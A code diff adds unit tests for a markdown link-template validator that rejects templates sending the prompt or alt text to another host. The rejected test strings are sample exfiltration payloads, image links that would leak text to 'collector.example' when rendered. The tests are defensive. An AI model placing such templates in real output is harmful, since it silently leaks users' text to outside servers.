@@ -109,3 +109,22 @@ describe('markdown.copyFiles.destination', () => {
     assert.ok(!isInside('/w', '/wx/a.png'));
   });
 });
+
+describe('a link template that would send text to another site (issue 24)', () => {
+  const check = (template: string) => checkTemplate(template, LINK_TEMPLATE_VARIABLES, 'ideogram.linkTemplates.markdown');
+  it('is refused when the prompt or the alt text goes into an address with a host', () => {
+    for (const template of [
+      '<img src="https://collector.example/p.gif?q=${prompt}">',
+      '![x](//collector.example/${alt}.png)',
+      '![${alt}](${path}) ![](http://x.example/t?${prompt})',
+    ]) assert.equal(check(template)?.reason, 'remote-template', template);
+  });
+  it('is fine when the text stays out of any address (the image\'s own path may be anywhere)', () => {
+    for (const template of [
+      '<img src="${path}" alt="${alt}" title="${prompt}">',
+      '![${alt}](${path}) <!-- see https://example.com/docs -->',
+      '[![${alt}](${path})](https://example.com/gallery)',
+      '<img src="https://cdn.example/${path}" alt="${alt}">',
+    ]) assert.equal(check(template), undefined, template);
+  });
+});
